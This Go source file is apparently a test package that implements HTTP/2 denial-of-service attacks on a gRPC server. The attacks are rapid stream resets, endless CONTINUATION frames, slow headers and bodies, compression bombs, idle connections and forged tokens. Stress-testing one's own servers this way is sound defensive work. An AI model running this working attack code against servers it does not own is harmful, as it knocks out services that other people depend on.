// Package attack does to a server what strangers do to take it from others, for tests. Each
// attack goes on over HTTP/2 without TLS until its context ends.
//
//	attack.Target{Addr: addr, Path: "/acme.v1.Library/Get", Tokens: tokens}.Run(ctx, attack.Resets)
package attack

import (
	"bytes"
	"context"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A Target is what is attacked.
type Target struct {
	// Addr is the port, and Path a unary method of gRPC.
	Addr, Path string
	// Tokens are what the caller has: of as many subjects as it can.
	Tokens []string
	// Forged is a token whose signature does not match.
	Forged string
	// Bomb is a compressed message that is far too large.
	Bomb []byte
}

// An Attack is one caller's. It returns when its connection, or the context, has ended.
type Attack struct {
	Name    string
	callers int // at once
	run     func(context.Context, Target) error
}

// The attacks.
var (
	Resets        = Attack{"resets", 2, resets}
	Continuations = Attack{"CONTINUATION without end", 2, continuations}
	SlowHeaders   = Attack{"slow headers", 100, slowHeaders}
	SlowBodies    = Attack{"slow bodies", 8, slowBodies}
	Bombs         = Attack{"compression bombs", 2, calls(Target.bomb)}
	Silent        = Attack{"silent connections", 200, silent}
	Forged        = Attack{"forged tokens", 2, calls(Target.forged)}
	ManySubjects  = Attack{"many subjects", 2, calls(Target.subjects)}
)

// All returns every attack.
func All() []Attack {
	return []Attack{Resets, Continuations, SlowHeaders, SlowBodies, Bombs, Silent, Forged, ManySubjects}
}

// Run attacks until ctx ends. Callers whose connection was closed connect again.
func (t Target) Run(ctx context.Context, a Attack) {
	var callers sync.WaitGroup
	for range a.callers {
		callers.Go(func() {
			for ctx.Err() == nil {
				if a.run(ctx, t) != nil {
					pause(ctx, 10*time.Millisecond)
				}
			}
		})
	}
	callers.Wait()
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// A conn is a connection whose caller keeps to no rules.
type conn struct {
	net.Conn
	*http2.Framer

	path    string
	next    uint32 // stream
	block   bytes.Buffer
	encoder *hpack.Encoder
	answers atomic.Int64 // streams that the server has ended
}

// dial connects, and reads what comes until the connection ends.
func dial(ctx context.Context, t Target) (*conn, error) {
	raw, err := new(net.Dialer).DialContext(ctx, "tcp", t.Addr)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = raw.Close() })
	c, err := newConn(raw, t.Path)
	go c.drain()
	return c, err
}

func newConn(raw net.Conn, path string) (*conn, error) {
	c := &conn{Conn: raw, Framer: http2.NewFramer(raw, raw), path: path, next: 1}
	c.encoder = hpack.NewEncoder(&c.block)
	_, err := io.WriteString(raw, http2.ClientPreface)
	if err == nil {
		err = c.WriteSettings()
	}
	return c, err
}

func (c *conn) drain() {
	for {
		frame, err := c.ReadFrame()
		if err != nil {
			_ = c.Close()
			return
		}
		if frame.Header().Flags.Has(http2.FlagHeadersEndStream) && frame.Header().StreamID > 0 || frame.Header().Type == http2.FrameRSTStream {
			c.answers.Add(1)
		}
	}
}

// open sends the headers of a call, and returns its stream.
func (c *conn) open(token, encoding string, endHeaders bool) (uint32, error) {
	c.block.Reset()
	for _, h := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", c.path}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"}, {"authorization", "Bearer " + token}, {"grpc-encoding", encoding},
	} {
		if h[1] != "" {
			_ = c.encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // into memory
		}
	}
	stream := c.next
	c.next += 2
	return stream, c.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: c.block.Bytes(), EndHeaders: endHeaders})
}

// resets opens calls, and takes each back at once.
func resets(ctx context.Context, t Target) error {
	c, err := dial(ctx, t)
	for err == nil {
		var stream uint32
		if stream, err = c.open(t.Tokens[0], "", true); err == nil {
			err = c.WriteRSTStream(stream, http2.ErrCodeCancel)
		}
	}
	return err
}

func continuations(ctx context.Context, t Target) error {
	c, err := dial(ctx, t)
	if err != nil {
		return err
	}
	stream, err := c.open(t.Tokens[0], "", false)
	for err == nil {
		c.block.Reset()
		_ = c.encoder.WriteField(hpack.HeaderField{Name: "x-more", Value: string(bytes.Repeat([]byte("x"), 8000))})
		err = c.WriteContinuation(stream, false, c.block.Bytes())
	}
	return err
}

// drip sends a byte every now and then.
const drip = 100 * time.Millisecond

func slowHeaders(ctx context.Context, t Target) error {
	c, err := dial(ctx, t)
	if err != nil {
		return err
	}
	stream, err := c.open(t.Tokens[0], "", false)
	for err == nil {
		pause(ctx, drip)
		err = c.WriteContinuation(stream, false, nil)
	}
	return err
}

func slowBodies(ctx context.Context, t Target) error {
	c, err := dial(ctx, t)
	var streams []uint32
	for err == nil && len(streams) < 200 {
		var stream uint32
		stream, err = c.open(t.Tokens[0], "", true)
		streams = append(streams, stream)
	}
	for err == nil {
		pause(ctx, drip)
		for _, stream := range streams[:20] {
			if err == nil {
				err = c.WriteData(stream, false, []byte{0})
			}
		}
	}
	return err
}

func silent(ctx context.Context, t Target) error {
	raw, err := new(net.Dialer).DialContext(ctx, "tcp", t.Addr)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { _ = raw.Close() })
	defer stop()
	_, err = io.Copy(io.Discard, raw)
	_ = raw.Close()
	return err
}

// A request is what a caller sends: a token, and a message with its encoding.
type request struct {
	token, encoding string
	message         []byte
}

var empty = []byte{0, 0, 0, 0, 0} // an envelope of gRPC without a message

func (t Target) bomb(int) request       { return request{t.Tokens[0], "gzip", t.Bomb} }
func (t Target) forged(int) request     { return request{t.Forged, "", empty} }
func (t Target) subjects(n int) request { return request{t.Tokens[n%len(t.Tokens)], "", empty} }

// maxUnread is how much the caller may send that the server has not read: less than what
// every server takes (RFC 9113, section 6.9.2).
const maxUnread = 500

// calls returns an attack by calls that are sent whole, a hundred at once if they are small.
func calls(of func(Target, int) request) func(context.Context, Target) error {
	return func(ctx context.Context, t Target) error {
		c, err := dial(ctx, t)
		for sent := int64(0); err == nil; {
			r := of(t, int(sent))
			if atOnce := max(1, maxUnread/len(r.message)); sent-c.answers.Load() >= int64(atOnce) {
				pause(ctx, time.Millisecond)
				if ctx.Err() != nil {
					return ctx.Err()
				}
				continue
			}
			var stream uint32
			if stream, err = c.open(r.token, r.encoding, true); err != nil {
				break
			}
			for rest := r.message; err == nil && len(rest) > 0; {
				part := rest[:min(len(rest), 1<<14)]
				rest = rest[len(part):]
				err = c.WriteData(stream, len(rest) == 0, part)
			}
			sent++
		}
		return err
	}
}

// Said is what a server has said when it closed a connection.
type Said struct {
	ErrCode http2.ErrCode
	Debug   string
}

// ResetUntilClosed opens and resets calls on a connection until the server has closed it, or
// most have been. It returns what the server said, and how many calls there were.
func ResetUntilClosed(raw net.Conn, path, token string, most int) (said Said, sent int) {
	c, err := newConn(raw, path)
	read := make(chan Said, 1)
	go func() {
		var last Said
		for {
			frame, err := c.ReadFrame()
			if err != nil {
				read <- last
				return
			}
			if f, ok := frame.(*http2.GoAwayFrame); ok {
				last = Said{f.ErrCode, string(f.DebugData())}
			}
		}
	}()
	for err == nil && sent < most {
		var stream uint32
		if stream, err = c.open(token, "", true); err == nil {
			err = c.WriteRSTStream(stream, http2.ErrCodeCancel)
			sent++
		}
	}
	if err == nil {
		_ = raw.Close()
	}
	return <-read, sent
}
